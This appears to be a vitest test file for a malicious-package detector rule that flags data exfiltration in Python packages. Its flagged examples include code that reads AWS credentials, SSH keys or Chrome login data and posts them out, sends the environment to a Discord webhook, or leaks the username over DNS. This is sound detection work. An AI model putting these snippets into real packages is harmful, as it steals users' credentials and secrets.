import { describe, it } from 'vitest';
import { testRule } from '../../helpers/rule-tester.js';

/**
 * The malicious-package indicator rules one by one, on malicious-style and benign
 * snippets (whole packages are in test/malicious/packages.test.ts).
 */

const SETUP = { path: 'pkg/setup.py' };
const INIT = { path: 'pkg/mod/__init__.py', packageName: 'mod' };

describe("malicious-package indicators", () => {
  it('KR603 data-exfiltration', () =>
    testRule('KR603', {
      valid: [
        'import os, requests\nrequests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}, timeout=5)',
        'import os, subprocess\nsubprocess.run(["make"], env={**os.environ, "CC": "gcc"})',
        'import os, paramiko\nc = paramiko.SSHClient()\nc.connect(h, key_filename=os.path.expanduser("~/.ssh/id_rsa"))',
        'import platform, requests\nrequests.post(URL, json={"os": platform.system()}, timeout=3)',
        // One field of `self` holds a credential path; the others (host, port) do not.
        'import os, socket\nclass Uploader:\n    def __init__(self, host):\n        self.rc = os.path.join(os.path.expanduser("~"), ".pypirc")\n        self.host = host\n    def connect(self):\n        return socket.create_connection((self.host, 443))',
      ],
      invalid: [
        { code: 'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/x", json={"e": dict(os.environ)})', errors: [{ line: 2, column: 1, message: 'The whole process environment is sent to the network at import time (the file names a Discord webhook: discord.com).' }], severity: 'critical' },
        { code: 'import os, requests\nenv = os.environ.copy()\ndef send():\n    requests.post("https://api.example.org/c", data=env)', lines: [4], severity: 'high' },
        { code: 'import os, requests\np = os.path.expanduser("~/.aws/credentials")\nwith open(p) as f:\n    c = f.read()\nrequests.post("http://185.1.2.3/c", data=c)', lines: [5], severity: 'critical', options: SETUP },
        { code: 'import socket, getpass\nsocket.gethostbyname(getpass.getuser() + ".x.oastify.com")', lines: [2], severity: 'critical', options: SETUP },
        { code: 'import os, requests\nclass Thief:\n    def grab(self):\n        self.loot = open(os.path.expanduser("~/.aws/credentials")).read()\n        requests.post("https://api.example.org/c", data=self.loot)', lines: [5], severity: 'high' },
        { code: 'import os, requests\nclass Box:\n    pass\nbox = Box()\nbox.creds = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://api.example.org/c", json=box.__dict__)', lines: [6], severity: 'critical' },
        { code: 'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ndef tag():\n    s.sendto(socket.gethostname().encode(), ADDR)', lines: [4], severity: 'medium' },
        { code: 'import os, requests\ndef _paths():\n    return [os.path.join(B, "Google", "Chrome", "User Data", "Login Data")]\nfor p in _paths():\n    requests.post(U, files={"f": open(p, "rb")})', lines: [5], severity: 'critical', options: INIT },
      ],
    }));
});
